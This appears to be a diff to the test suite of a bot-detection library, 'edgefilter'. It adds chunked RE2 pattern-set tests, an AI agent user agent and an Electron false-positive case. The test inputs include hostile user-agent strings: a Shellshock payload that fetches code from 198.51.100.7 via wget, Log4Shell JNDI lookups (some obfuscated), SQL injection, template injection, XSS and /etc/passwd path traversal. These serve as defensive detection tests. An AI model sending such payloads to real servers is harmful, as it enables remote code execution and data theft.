@@ -14,8 +14,11 @@ from edgefilter._bots import (
     EXCEPTIONS,
     FAMILIES,
     MAX_UA_LENGTH,
+    SET_CHUNK,
     TOKENS,
+    _CrawlerList,
     _options,
+    _PatternSet,
 )
 
 from .conftest import CHROME, DATA, GOOGLEBOT
@@ -39,6 +42,9 @@ HAND_EXAMPLES = [
     '() { :;}; /bin/bash -c "wget http://198.51.100.7/x"',
     "Mozilla/5.0 <script>alert(1)</script>",
     "${jndi:ldap://198.51.100.7:1389/a}",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 ${${lower:j}ndi:ldap://198.51.100.7/a}",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 {{7*7}}",
+    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36" AND 4242=4242 AND "a"="a',
     "Mozilla/5.0' UNION SELECT 1,2,3--",
     "Mozilla/5.0' or '1'='1",
     "../../../../etc/passwd",
@@ -53,6 +59,7 @@ HAND_EXAMPLES = [
     # AI coding agents
     "GitHub-Copilot/1.155.0",
     "OpenAI Codex/0.46.0 (Linux 6.8; x86_64)",
+    "codex_cli_rs/0.46.0 (Mac OS 15.6.1; arm64) iTerm.app/3.5.10",
     "Devin/1.0 (+https://devin.ai)",
     "Cline/3.17.0",
     "aider/0.86.1",
@@ -117,6 +124,8 @@ PEOPLE_TRAPS = [
     "Mozilla/5.0 (Linux; GoogleTV 3.2; LG Google TV G3 Build/MASTER) AppleWebKit/534.24 (KHTML, like Gecko) Chrome/11.0.696.77 Safari/534.24",
     "ExampleShop/2.8 (Android 4.3; LGE Mako; )[locale=de_DE;clientidbase=android-google]",
     "FAKE_USER_AGENT Samsung SPH-A920",
+    # an Electron desktop app named like a bot (the Electron exception)
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Notion/2.3.2 Chrome/120.0.0.0 Electron/28.1.0 Safari/537.36",
     # quotes its own header name (the "user-agent" exception)
     "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; User-agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1))",
 ]
@@ -330,3 +339,19 @@ def test_bytes_find_the_verdict_of_their_text() -> None:
     assert counting.is_bot(CHROME) is False
     assert counting.is_bot(CHROME.encode("latin-1")) is False
     assert counting.calls == 1
+
+
+def test_pattern_sets_split_in_chunks_answer_as_one() -> None:
+    """Patterns split into several RE2 sets answer as one set would: indexes across the
+    sets, a pattern RE2 refuses skipped without shifting the others, the first family."""
+    words = [f"w{number:03d}x" for number in range(2 * SET_CHUNK + 7)]
+    refused = SET_CHUNK  # the first of the second set: "(" is no pattern
+    patterns = [*words[:refused], "(", *words[refused:]]
+    every = _PatternSet(patterns)
+    assert every.patterns == words and len(every.sets) == 3
+    probe = f"{words[3]} {words[SET_CHUNK + 1]} {words[-1]}"
+    assert every.matching(probe) == [3, SET_CHUNK + 1, len(words) - 1]
+    assert every.matches(words[-1]) and not every.matches("nothing here")
+    crawlers = _CrawlerList([(word, f"family{number}") for number, word in enumerate(words)])
+    assert crawlers.family(f"{words[-1]} {words[SET_CHUNK + 2]}") == f"family{SET_CHUNK + 2}"
+    assert crawlers.family("nothing here") is None
